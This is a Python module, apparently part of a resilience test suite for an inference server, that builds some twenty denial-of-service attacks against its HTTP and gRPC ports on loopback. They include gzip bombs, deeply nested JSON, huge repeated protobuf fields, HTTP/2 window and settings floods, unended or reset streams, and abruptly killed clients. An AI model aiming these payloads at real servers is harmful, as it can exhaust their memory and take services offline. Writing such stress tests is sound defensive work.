"""What a hostile client sends to stop a server or to fill its memory, each attack a function of the server's ports."""

from __future__ import annotations

import contextlib
import gzip
import json
import socket
import struct
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from functools import partial

import raw_grpc as grpc
from raw_grpc import RawGrpc

MILLION = 1_000_000


@dataclass(frozen=True)
class Ports:
    """Where the server listens, on loopback."""

    http: int
    grpc: int


Attack = Callable[[Ports], int]
"""Sends what it sends, waits for the answers, and returns how many bytes it sent."""


def http_request(path: str, body: bytes, *lines: str) -> bytes:
    head = "\r\n".join([f"POST {path} HTTP/1.1", "Host: x", f"Content-Length: {len(body)}", *lines, "", ""])
    return head.encode() + body


def send_http(ports: Ports, raw: bytes, answers: int = 1) -> int:
    """Sends the bytes and reads until so many answers have come, or the server closes."""
    with socket.create_connection(("127.0.0.1", ports.http), timeout=120) as connection:
        connection.sendall(raw)
        received = b""
        with contextlib.suppress(ConnectionError):
            while received.count(b"HTTP/1.1 ") < answers and (part := connection.recv(1 << 20)):
                received = received[-16:] + part if answers == 1 else received + part
    return len(raw)


def send_grpc(ports: Ports, content: bytes, timeout_s: float = 120) -> int:
    """One gzip'ed ModelInfer; waits for its end."""
    raw = grpc.headers(1, grpc.INFER, "gzip") + grpc.data(1, grpc.message(content, is_gzipped=True))
    with RawGrpc(ports.grpc, timeout_s=timeout_s) as client:
        client.send(raw)
        client.read_until(grpc.HEADERS, 1)
    return len(raw)


def empty_inputs(ports: Ports, count: int = 10 * MILLION) -> int:
    return send_grpc(ports, grpc.field(1, b"text") + grpc.field(5, b"") * count)


def empty_strings(ports: Ports, count: int = 10 * MILLION) -> int:
    described = grpc.field(1, b"IN") + grpc.field(2, b"BYTES") + grpc.field(3, grpc.varint(count))
    described += grpc.field(5, grpc.field(8, b"") * count)
    return send_grpc(ports, grpc.field(1, b"text") + grpc.field(5, described))


def empty_raw_contents(ports: Ports, count: int = 10 * MILLION) -> int:
    return send_grpc(ports, grpc.field(1, b"text") + grpc.field(7, b"") * count)


def many_shapes(ports: Ports, count: int = 10 * MILLION) -> int:
    """Dimensions, each a field of its own."""
    described = grpc.field(1, b"IN") + b"\x18\x01" * count
    return send_grpc(ports, grpc.field(1, b"text") + grpc.field(5, described))


def json_strings(ports: Ports, count: int = 15 * MILLION) -> int:
    entry = b'{"inputs":[{"name":"IN","datatype":"BYTES","shape":[%d],"data":[%b""]}]}'
    body = gzip.compress(entry % (count, b'"",' * (count - 1)), 9)
    return send_http(ports, http_request("/v2/models/text/infer", body, "Content-Encoding: gzip"))


def json_escapes(ports: Ports, count: int = 10 * MILLION) -> int:
    """One string of escapes."""
    entry = b'{"inputs":[{"name":"IN","datatype":"BYTES","shape":[1],"data":["%b"]}]}'
    body = gzip.compress(entry % (b"\\u00e9" * count), 9)
    return send_http(ports, http_request("/v2/models/text/infer", body, "Content-Encoding: gzip"))


def brackets(ports: Ports, count: int = 40, depth: int = 130_000) -> int:
    body = gzip.compress(b"[" * depth, 9)
    return send_http(ports, http_request("/v2/models/text/infer", body, "Content-Encoding: gzip") * count, count)


def objects_in_turn(ports: Ports, count: int = 1500) -> int:
    """Pipelined, each small, refused late and slow to read."""
    body = gzip.compress(b'{"inputs":[' + b'{"":0},' * 2000 + b"x]}", 9)
    return send_http(ports, http_request("/v2/models/text/infer", body, "Content-Encoding: gzip") * count, count)


def many_members(ports: Ports, count: int = 8, members: int = 300_000) -> int:
    """Objects with very many members, as parameters, as a text to generate from and as a chat, each from several
    clients at once."""
    flat = b",".join(b'"k%d":1' % number for number in range(members))
    bodies = {
        "/v2/models/text/infer": b'{"inputs":[],"parameters":{%b}}' % flat,
        "/v2/models/text/generate": b"{%b}" % flat,
        "/v1/chat/completions": b'{"model":"text","messages":[{%b}]}' % flat,
    }
    requests = [http_request(path, body) for path, body in bodies.items()] * count
    with ThreadPoolExecutor(len(requests)) as clients:
        return sum(clients.map(partial(send_http, ports), requests))


def endless_values(ports: Ports, size: int = 60 * MILLION) -> int:
    """One string that is not UTF-8, one number, one name, one shape and one stretch of spaces, in each of the APIs that
    read JSON, several at once."""
    infer, generate, chat = "/v2/models/text/infer", "/v2/models/text/generate", "/v1/chat/completions"
    begin = b'{"inputs":[{"name":"IN","datatype":"BYTES","shape":[1],"data":['
    bodies = [
        (infer, begin + b'"', b"\xff", b'"]}]}'),
        (infer, b'{"inputs":[{"name":"', b"\xff", b'","datatype":"BYTES","shape":[1],"data":["a"]}]}'),
        (infer, begin, b"1", b"]}]}"),
        (infer, b'{"inputs":[{"name":"IN","datatype":"BYTES","shape":[1', b",1", b'],"data":["a"]}]}'),
        (infer, begin, b" ", b'"a"]}]}'),
        (generate, b'{"IN":"', b"\xff", b'"}'),
        (generate, b'{"', b"\xff", b'":1}'),
        (chat, b'{"model":"', b"\xff", b'","messages":[]}'),
    ]
    with ThreadPoolExecutor(3) as clients:
        return sum(clients.map(lambda body: _send_filled(ports, size, *body), bodies))


def _send_filled(ports: Ports, size: int, path: str, before: bytes, filler: bytes, after: bytes) -> int:
    """A request whose body is not made at once, so that this process has time for others; waits for the answer."""
    piece = filler * (MILLION // len(filler))
    count = size // len(piece)
    whole = len(before) + count * len(piece) + len(after)
    with socket.create_connection(("127.0.0.1", ports.http), timeout=120) as connection, contextlib.suppress(OSError):
        connection.sendall(f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Length: {whole}\r\n\r\n".encode() + before)
        for _ in range(count):
            connection.sendall(piece)
        connection.sendall(after)
        connection.recv(1 << 20)
    return whole


def gzip_bombs(ports: Ports, count: int = 40, size: int = 256 << 20) -> int:
    """Bodies that become more than is allowed, from as many clients at once."""
    return _send_inflating(ports, count, b'{"inputs":[', size)


def inflated_texts(ports: Ports, count: int = 40, size: int = 63 << 20) -> int:
    """Bodies that become as much as is allowed, and have to be read to their end to be refused."""
    return _send_inflating(ports, count, b'{"inputs":[', size)


def inflated_short_texts(ports: Ports, count: int = 1500, size: int = 1 << 20) -> int:
    """The same, with many that become little."""
    return _send_inflating(ports, count, b'{"inputs":[', size)


def inflated_messages(ports: Ports, count: int = 40, size: int = 250 << 20) -> int:
    """gRPC messages that become a quarter of a gigabyte each, and are long to read, from as many clients at once."""
    content = grpc.message(grpc.field(1, b"text") + b"\x2a\0" * (size // 2), is_gzipped=True)
    raw = grpc.headers(1, grpc.INFER, "gzip") + grpc.data(1, content)

    def send(_: int) -> int:
        with RawGrpc(ports.grpc, timeout_s=120) as client:
            client.send(raw)
            client.read_until(grpc.HEADERS, 1)
        return len(raw)

    with ThreadPoolExecutor(count) as clients:
        return sum(clients.map(send, range(count)))


def unended_calls(ports: Ports, count: int = 4, size: int = 200 << 20) -> int:
    """Calls whose messages would become much, and which do not end; meanwhile another client sends a long message."""
    content = grpc.message(grpc.field(1, b"text") + grpc.field(7, bytes(size)), is_gzipped=True)
    with RawGrpc(ports.grpc, timeout_s=60) as client:
        for stream in range(1, 2 * count, 2):
            client.send(grpc.headers(stream, grpc.INFER, "gzip") + grpc.data(stream, content, is_end=False))
        client.send(grpc.frame(grpc.PING, 0, 0, bytes(8)))
        client.read_until(grpc.PING, 0, with_end=False)
        return count * len(content) + send_grpc(ports, grpc.field(1, b"text") + grpc.field(7, bytes(8 << 20)), 60)


def _send_inflating(ports: Ports, count: int, begin: bytes, size: int) -> int:
    body = gzip.compress(begin + b" " * size, 9)
    raw = http_request("/v2/models/text/infer", body, "Content-Encoding: gzip")
    with ThreadPoolExecutor(min(count, 200)) as clients:
        return sum(clients.map(lambda _: send_http(ports, raw), range(count)))


def compressed_calls(ports: Ports, count: int = 2000) -> int:
    """Calls in one write, each a hundred bytes that become half a megabyte."""
    content = grpc.message(grpc.field(1, b"text") + grpc.field(5, b"") * 250_000, is_gzipped=True)
    streams = range(1, 2 * count, 2)
    raw = b"".join(grpc.headers(stream, grpc.INFER, "gzip") + grpc.data(stream, content) for stream in streams)
    with RawGrpc(ports.grpc, timeout_s=120) as client:
        client.send(raw)
        client.read_until(grpc.HEADERS, streams[-1])
    return len(raw)


def window_updates(ports: Ports, calls: int = 4000, updates: int = 2000) -> int:
    """Windows of the connection, opened again and again while every call waits for a window of its own."""
    return _with_waiting_calls(ports, calls, grpc.window_update(0, 1) * updates)


def repeated_settings(ports: Ports, calls: int = 4000, entries: int = 2000) -> int:
    """One SETTINGS frame that says the same thing over and over, and many frames that each open every window."""
    repeated = grpc.settings(*((grpc.INITIAL_WINDOW_SIZE, number % 2) for number in range(entries)))
    opening = b"".join(grpc.settings((grpc.INITIAL_WINDOW_SIZE, number % 2)) for number in range(200))
    return _with_waiting_calls(ports, calls, repeated) + _with_waiting_calls(ports, calls, opening)


def _with_waiting_calls(ports: Ports, calls: int, flood: bytes) -> int:
    live = "/inference.GRPCInferenceService/ServerLive"
    raw = b"".join(
        grpc.headers(stream, live) + grpc.data(stream, grpc.message(b"")) for stream in range(1, 2 * calls, 2)
    )
    with RawGrpc(ports.grpc, (grpc.INITIAL_WINDOW_SIZE, 0), timeout_s=120) as client:
        client.send(raw)
        ping = grpc.frame(grpc.PING, 0, 0, b"12345678")
        with contextlib.suppress(ConnectionError):
            client.send(flood, ping)
            while (found := client.read_frame()) is not None and found[0] not in (grpc.PING, grpc.GOAWAY):
                pass
    return len(raw) + len(flood)


def killed_receivers(ports: Ports, count: int = 4, size_bytes: int = 256 << 20) -> int:
    """Clients that ask for much, take some of it and are killed."""
    content = grpc.infer_request("large", "INT32", 1, struct.pack("<i", size_bytes))
    raw = grpc.headers(1, grpc.INFER) + grpc.data(1, grpc.message(content))
    for _ in range(count):
        with RawGrpc(ports.grpc, (grpc.INITIAL_WINDOW_SIZE, 2**31 - 1)) as client:
            client.send(grpc.window_update(0, 2**31 - 1 - 65535), raw)
            taken = 0
            while taken < size_bytes * 3 // 4 and (part := client.socket.recv(1 << 20)):
                taken += len(part)
            client.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    return count * len(raw)


def killed_http_receivers(ports: Ports, count: int = 4, size_bytes: int = 256 << 20) -> int:
    text = json.dumps(
        {
            "inputs": [{"name": "IN", "datatype": "INT32", "shape": [1], "data": [size_bytes]}],
            "outputs": [{"name": "OUT", "parameters": {"binary_data": True}}],
        }
    ).encode()
    raw = http_request("/v2/models/large/infer", text)
    for _ in range(count):
        with socket.create_connection(("127.0.0.1", ports.http), timeout=30) as connection:
            connection.sendall(raw)
            taken = 0
            while taken < size_bytes * 3 // 4 and (part := connection.recv(1 << 20)):
                taken += len(part)
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    return count * len(raw)


def cancelled_stream_requests(ports: Ports, count: int = 300, size_bytes: int = 1 << 20) -> int:
    """Requests of a stream that is reset while they wait."""
    content = grpc.message(grpc.infer_request("slow", "BYTES", 1, struct.pack("<I", size_bytes) + bytes(size_bytes)))
    sent = 0
    for _ in range(count // 10):
        with RawGrpc(ports.grpc) as client:
            client.send(grpc.headers(1, grpc.STREAM_INFER))
            for _ in range(10):
                client.send(grpc.data(1, content, is_end=False))
            client.send(grpc.frame(grpc.RST_STREAM, 0, 1, struct.pack(">I", 8)), grpc.frame(grpc.PING, 0, 0, bytes(8)))
            while (found := client.read_frame()) is not None and found[0] != grpc.PING:
                pass
        sent += 10 * len(content)
    return sent


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        empty_inputs,
        empty_strings,
        empty_raw_contents,
        many_shapes,
        json_strings,
        json_escapes,
        brackets,
        objects_in_turn,
        many_members,
        endless_values,
        gzip_bombs,
        inflated_texts,
        inflated_short_texts,
        inflated_messages,
        unended_calls,
        compressed_calls,
        window_updates,
        repeated_settings,
        killed_receivers,
        killed_http_receivers,
        cancelled_stream_requests,
    )
}
